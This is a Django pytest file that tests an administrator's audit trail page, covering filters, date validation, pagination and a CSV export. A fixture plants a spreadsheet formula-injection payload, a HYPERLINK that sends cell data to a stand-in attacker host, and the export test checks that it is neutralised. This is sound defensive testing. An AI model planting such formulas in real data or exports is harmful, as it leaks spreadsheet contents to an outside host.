"""The administrator's audit trail page: filters, pages and a CSV export that is itself audited."""
import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from commissioning.accounts.roles import Role
from commissioning.core.audit import Action, audit_record
from commissioning.core.models import AuditEvent

pytestmark = pytest.mark.django_db


@pytest.fixture
def trail(administrator, make_user, provider):
    broker = make_user(Role.BROKER, first_name="Bea", last_name="Broker")
    old = audit_record(actor=broker, action=Action.SIGNED_IN, obj=broker)
    AuditEvent.objects.filter(pk=old.pk).update(at=timezone.now() - timedelta(days=40))
    audit_record(actor=administrator, action=Action.DEACTIVATED, obj=broker, note="Left")
    provider.name = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
    provider.save()
    audit_record(actor=administrator, action=Action.UPDATED, obj=provider)
    return {"broker": broker}


def test_the_administrators_home_page_links_to_the_audit_trail(client_for, administrator):
    assert reverse("accounts:audit_list") in client_for(administrator).get("/").content.decode()


def test_the_audit_page_lists_every_line_newest_first(client_for, administrator, trail):
    response = client_for(administrator).get(reverse("accounts:audit_list"))
    rows = [event for event, _ in response.context["rows"]]
    assert response.status_code == 200 and len(rows) == 3
    assert rows[0].at >= rows[-1].at


def test_the_audit_page_filters_by_person_action_record_and_dates(client_for, administrator, trail):
    client = client_for(administrator)
    url = reverse("accounts:audit_list")
    by_person = client.get(url, {"person": trail["broker"].pk}).context["rows"]
    assert [e.action for e, _ in by_person] == [Action.SIGNED_IN]
    by_action = client.get(url, {"action": Action.DEACTIVATED}).context["rows"]
    assert [e.note for e, _ in by_action] == ["Left"]
    by_text = client.get(url, {"object_text": "HYPERLINK"}).context["rows"]
    assert [kind for _, kind in by_text] == ["Provider"]
    today = timezone.localdate()
    recent = client.get(url, {"date_from_day": (today - timedelta(days=7)).day,
                              "date_from_month": (today - timedelta(days=7)).month,
                              "date_from_year": (today - timedelta(days=7)).year}).context["rows"]
    assert len(recent) == 2


def test_a_date_that_does_not_exist_is_refused_with_a_govuk_error(client_for, administrator, trail):
    response = client_for(administrator).get(reverse("accounts:audit_list"),
                                             {"date_from_day": "31", "date_from_month": "2", "date_from_year": "2026"})
    page = response.content.decode()
    assert "There is a problem" in page and "The from date must be a real date" in page
    assert 'href="#id_date_from_0"' in page and 'id="id_date_from_0"' in page


def test_a_to_date_before_the_from_date_is_refused(client_for, administrator, trail):
    response = client_for(administrator).get(reverse("accounts:audit_list"), {
        "date_from_day": "2", "date_from_month": "3", "date_from_year": "2026",
        "date_to_day": "1", "date_to_month": "3", "date_to_year": "2026"})
    assert "The to date must be the same as or after the from date" in response.content.decode()


def test_the_audit_page_is_paginated(client_for, administrator):
    for _ in range(55):
        audit_record(actor=administrator, action=Action.UPDATED, obj=administrator)
    client = client_for(administrator)
    first = client.get(reverse("accounts:audit_list"))
    assert len(first.context["rows"]) == 50 and first.context["page_obj"].paginator.num_pages == 2
    assert len(client.get(reverse("accounts:audit_list"), {"page": 2}).context["rows"]) == 5


def test_the_export_has_the_filtered_rows_with_formulas_neutralised_and_is_audited(client_for, administrator, trail):
    response = client_for(administrator).get(reverse("accounts:audit_csv"), {"action": Action.UPDATED})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:3] == ["When", "Done by", "What happened"]
    assert len(rows) == 2 and rows[1][4].startswith("'=HYPERLINK")
    export = AuditEvent.objects.get(action=Action.EXPORTED)
    assert export.actor == administrator and "1 line(s)" in export.note and "What happened: Updated" in export.note
